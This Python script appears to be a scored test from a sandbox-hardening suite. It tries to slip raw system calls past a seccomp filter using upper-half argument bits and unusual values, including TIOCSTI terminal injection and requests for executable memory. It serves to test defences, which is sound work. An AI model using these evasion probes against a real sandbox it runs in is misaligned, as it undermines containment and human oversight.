# attack: system calls whose numbers and arguments differ only in the half that the kernel does not read
# earns: 100
# stopped by: few system calls (seccomp)
import ctypes
import errno
import os

from honest import *

arm = os.uname().machine == "aarch64"
libc = ctypes.CDLL(None, use_errno=True)
room = (ctypes.c_uint64 * 128)()
pid = os.getpid()
for name, x86, on_arm, arguments in (  # None: there is no such call
    ("clock_gettime, by a clock above", 228, 113, (ctypes.c_long(1 << 32), room)),
    ("clock_gettime, of a process", 228, 113, (ctypes.c_long(-6), room)),
    ("clock_getres, of a thread", 229, 114, (ctypes.c_long(~pid << 3 | 6), room)),
    ("clock_nanosleep, by a device", 230, 115, (ctypes.c_long(3 << 3 | 3), 0, room, None)),
    ("getrusage of children", 98, 165, (ctypes.c_long(-1), room)),
    ("getrusage of children, unsigned", 98, 165, (0xFFFFFFFF, room)),
    ("fcntl, F_SETOWN above", 72, 25, (1, ctypes.c_long((1 << 32) | 8), pid)),
    ("fcntl, F_DUPFD", 72, 25, (1, 0, 9)),
    ("fcntl, F_ADD_SEALS", 72, 25, (1, 1033, 1)),
    ("fcntl, F_NOTIFY", 72, 25, (0, 1026, 1)),
    ("ioctl, TIOCSTI", 16, 29, (0, 0x5412, room)),
    ("ioctl, FIONREAD", 16, 29, (3, 0x541B, room)),
    ("ioctl, above", 16, 29, (1, ctypes.c_long((1 << 32) | 0x5401), room)),
    ("prlimit64, old and new", 302, 261, (0, 7, room, room)),
    ("mprotect, executable", 10, 226, (ctypes.c_void_p(id(room) & ~4095), 4096, 7)),
    ("mmap, executable", 9, 222, (None, 4096, 5, 0x22, -1, 0)),
    ("mmap, a descriptor, executable", 9, 222, (None, 4096, 4, 2, 0, 0)),
):
    call = on_arm if arm else x86
    if call is not None and (libc.syscall(call, *arguments) != -1 or ctypes.get_errno() != errno.EACCES):
        print("GOT past the filter:", name)
